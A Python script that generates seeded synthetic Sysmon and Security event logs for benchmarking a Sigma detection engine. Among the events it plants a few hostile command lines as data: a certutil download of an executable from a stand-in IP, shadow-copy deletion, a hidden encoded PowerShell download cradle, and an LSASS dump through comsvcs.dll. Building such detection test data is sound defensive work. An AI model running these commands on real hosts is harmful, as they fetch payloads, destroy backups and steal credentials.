"""Write EVTX-shaped JSON lines (the `evtx` parser's own record shape) for the Sigma benchmark.

Sysmon (process creation, network, image load, file, registry, DNS) and Security (logons,
4688 process creation) events with realistic field values: a few hundred images, command
lines with per-event arguments (GUIDs, paths, numbers: mostly unique, as on real hosts),
and a few events that SigmaHQ rules detect (certutil downloads, shadow copy deletion,
encoded PowerShell, LSASS dumps, Run keys) at about one in 20,000. Seeded: the same seed and
size give the same file. Not timed; it only makes input.

    python bench/sigma_gen.py out/sigma-2g.jsonl --gb 2
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import uuid
from datetime import datetime, timedelta
from pathlib import Path

SYSMON = (
    "Microsoft-Windows-Sysmon",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
    "Microsoft-Windows-Sysmon/Operational",
)
SECURITY = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D", "Security")

PROGRAMS = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Windows\System32\SearchProtocolHost.exe",
    r"C:\Windows\System32\WmiPrvSE.exe",
    r"C:\Windows\System32\dllhost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Git\cmd\git.exe",
    r"C:\Program Files\nodejs\node.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\msiexec.exe",
    r"C:\Windows\System32\sc.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\ipconfig.exe",
    r"C:\Program Files\Windows Defender\MsMpEng.exe",
    r"C:\Windows\System32\spoolsv.exe",
    r"C:\Windows\System32\lsass.exe",
    r"C:\Windows\System32\services.exe",
] + [rf"C:\Program Files\Vendor{i}\app{i}\bin\tool{i}.exe" for i in range(200)]
PARENTS = [*PROGRAMS[:12], r"C:\Windows\System32\services.exe", r"C:\Windows\System32\userinit.exe"]
USERS = [f"CORP\\user{i:03d}" for i in range(300)] + ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE"]
HOSTS = [f"ws{i:04d}.corp.example.com" for i in range(400)]
DLLS = [
    r"C:\Windows\System32\ntdll.dll",
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\user32.dll",
] + [rf"C:\Program Files\Vendor{i}\lib{i}.dll" for i in range(150)]
DOMAINS = [f"svc{i}.example.net" for i in range(500)] + ["www.microsoft.com", "login.live.com", "github.com"]
REG_KEYS = [rf"HKU\S-1-5-21-1000-{i}\Software\Vendor{i % 40}\Settings\Value{i % 7}" for i in range(400)] + [
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\Last"
]
FILES = [rf"C:\Users\user{i:03d}\AppData\Local\Temp\tmp{i:x}.tmp" for i in range(300)] + [
    rf"C:\Users\user{i:03d}\Documents\report{i}.docx" for i in range(300)
]
# Events SigmaHQ rules detect, one of these replaces about one event in HIT_EVERY.
HITS = [
    (
        r"C:\Windows\System32\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
        "CertUtil.exe",
    ),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "PowerShell.EXE",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
        "RUNDLL32.EXE",
    ),
    (r"C:\Windows\System32\whoami.exe", "whoami /all", "whoami.exe"),
]
HIT_EVERY = 20_000


def _system(provider: tuple[str, str, str], code: int, rid: int, t: datetime, host: str) -> dict[str, object]:
    return {
        "Provider": {"#attributes": {"Name": provider[0], "Guid": provider[1]}},
        "EventID": code,
        "Version": 5,
        "Level": 4,
        "Task": code,
        "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        "EventRecordID": rid,
        "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 3308, "ThreadID": 4008}},
        "Channel": provider[2],
        "Computer": host,
        "Security": {"#attributes": {"UserID": "S-1-5-18"}},
    }


def _hash(path: str) -> str:
    """The same file has the same hash (as on real hosts): derived from its path."""
    import hashlib

    return "SHA256=" + hashlib.sha256(path.encode()).hexdigest().upper()


def _cmd(rng: random.Random, image: str) -> str:
    name = image.rsplit("\\", 1)[-1]
    kind = rng.random()
    if kind < 0.3:
        return f'"{image}" --type=renderer --field-trial-handle={rng.randrange(10**9)} --lang=en-US /prefetch:{rng.randrange(9)}'
    if kind < 0.5:
        return f"{name} -k netsvcs -p -s {rng.choice(['Schedule', 'BITS', 'wuauserv', 'Winmgmt', 'gpsvc'])}"
    if kind < 0.7:
        return f'"{image}" /open "{rng.choice(FILES)}" /session {uuid.UUID(int=rng.getrandbits(128))}'
    if kind < 0.85:
        return f"{name} /c echo {rng.randrange(10**6)} > {rng.choice(FILES)}"
    return f"{name}"


def event(rng: random.Random, rid: int, t: datetime) -> dict[str, object]:
    """One record in the EVTX parser's JSON shape."""
    host = rng.choice(HOSTS)
    r = rng.random()
    guid = "{" + str(uuid.UUID(int=rng.getrandbits(128))).upper() + "}"
    if r < 0.40 or rid % HIT_EVERY == 0:
        if rid % HIT_EVERY == 0:
            image, cmd, orig = HITS[(rid // HIT_EVERY) % len(HITS)]
        else:
            image = rng.choice(PROGRAMS)
            cmd, orig = _cmd(rng, image), image.rsplit("\\", 1)[-1]
        parent = rng.choice(PARENTS)
        data: dict[str, object] = {
            "RuleName": "-",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "Image": image,
            "FileVersion": "10.0.19041.1",
            "Description": orig.split(".")[0],
            "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": orig,
            "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": rng.choice(USERS),
            "LogonGuid": guid,
            "LogonId": hex(rng.getrandbits(32)),
            "TerminalSessionId": 1,
            "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
            "Hashes": _hash(image),
            "ParentProcessGuid": guid,
            "ParentProcessId": rng.randrange(100, 60000),
            "ParentImage": parent,
            "ParentCommandLine": _cmd(rng, parent),
            "ParentUser": rng.choice(USERS),
        }
        return {"Event": {"System": _system(SYSMON, 1, rid, t, host), "EventData": data}}
    if r < 0.50:
        data = {
            "RuleName": "-",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "Image": rng.choice(PROGRAMS),
            "User": rng.choice(USERS),
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "SourceHostname": host,
            "SourcePort": rng.randrange(49152, 65535),
            "DestinationIsIpv6": "false",
            "DestinationIp": f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "DestinationHostname": rng.choice(DOMAINS),
            "DestinationPort": rng.choice([443, 80, 445, 53, 8080]),
        }
        return {"Event": {"System": _system(SYSMON, 3, rid, t, host), "EventData": data}}
    if r < 0.62:
        data_dll = rng.choice(DLLS)
        data = {
            "RuleName": "-",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "Image": rng.choice(PROGRAMS),
            "ImageLoaded": data_dll,
            "FileVersion": "10.0.19041.1",
            "Description": "library",
            "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": "lib.dll",
            "Hashes": _hash(str(data_dll)),
            "Signed": "true",
            "Signature": "Microsoft Windows",
            "SignatureStatus": "Valid",
            "User": rng.choice(USERS),
        }
        return {"Event": {"System": _system(SYSMON, 7, rid, t, host), "EventData": data}}
    if r < 0.74:
        data = {
            "RuleName": "-",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "Image": rng.choice(PROGRAMS),
            "TargetFilename": rng.choice(FILES),
            "CreationUtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "User": rng.choice(USERS),
        }
        return {"Event": {"System": _system(SYSMON, 11, rid, t, host), "EventData": data}}
    if r < 0.84:
        data = {
            "RuleName": "-",
            "EventType": "SetValue",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "Image": rng.choice(PROGRAMS),
            "TargetObject": rng.choice(REG_KEYS),
            "Details": f"DWORD (0x{rng.randrange(16):08x})",
            "User": rng.choice(USERS),
        }
        return {"Event": {"System": _system(SYSMON, 13, rid, t, host), "EventData": data}}
    if r < 0.90:
        data = {
            "RuleName": "-",
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": guid,
            "ProcessId": rng.randrange(100, 60000),
            "QueryName": rng.choice(DOMAINS),
            "QueryStatus": "0",
            "QueryResults": f"::ffff:{rng.randrange(1, 224)}.{rng.randrange(256)}.0.1;",
            "Image": rng.choice(PROGRAMS),
            "User": rng.choice(USERS),
        }
        return {"Event": {"System": _system(SYSMON, 22, rid, t, host), "EventData": data}}
    user = rng.choice(USERS).split("\\")[1]
    if r < 0.97:
        data = {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": host.split(".")[0].upper() + "$",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7",
            "TargetUserSid": f"S-1-5-21-1000-{rng.randrange(2000)}",
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "TargetLogonId": hex(rng.getrandbits(32)),
            "LogonType": rng.choice([2, 3, 3, 3, 5, 7, 10]),
            "LogonProcessName": "Kerberos",
            "AuthenticationPackageName": "Kerberos",
            "WorkstationName": "-",
            "LogonGuid": guid,
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": 0,
            "ProcessId": "0x0",
            "ProcessName": "-",
            "IpAddress": f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "IpPort": rng.randrange(49152, 65535),
            "ImpersonationLevel": "%%1833",
            "ElevatedToken": "%%1843",
        }
        return {"Event": {"System": _system(SECURITY, 4624, rid, t, host), "EventData": data}}
    image = rng.choice(PROGRAMS)
    data = {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": user,
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7",
        "NewProcessId": hex(rng.randrange(100, 60000)),
        "NewProcessName": image,
        "TokenElevationType": "%%1936",
        "ProcessId": hex(rng.randrange(100, 60000)),
        "CommandLine": _cmd(rng, image),
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": rng.choice(PARENTS),
        "MandatoryLabel": "S-1-16-16384",
    }
    return {"Event": {"System": _system(SECURITY, 4688, rid, t, host), "EventData": data}}


def generate(out: Path, size_bytes: int, seed: int = 7) -> int:
    """Write events until the file holds ``size_bytes``; returns the number of events."""
    rng = random.Random(seed)
    t = datetime(2026, 3, 1)
    out.parent.mkdir(parents=True, exist_ok=True)
    n = 0
    written = 0
    with out.open("w", encoding="utf-8") as fh:
        lines: list[str] = []
        while written < size_bytes:
            n += 1
            t += timedelta(milliseconds=rng.randrange(1, 50))
            line = json.dumps(event(rng, n, t), ensure_ascii=False) + "\n"
            written += len(line.encode("utf-8"))
            lines.append(line)
            if len(lines) >= 10_000:
                fh.writelines(lines)
                lines = []
        fh.writelines(lines)
    return n


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out", type=Path)
    ap.add_argument("--gb", type=float, default=2.0, help="size in GB (10^9 bytes)")
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args()
    n = generate(args.out, int(args.gb * 1e9), args.seed)
    sys.stderr.write(f"wrote {n:,} events to {args.out}\n")


if __name__ == "__main__":
    main()
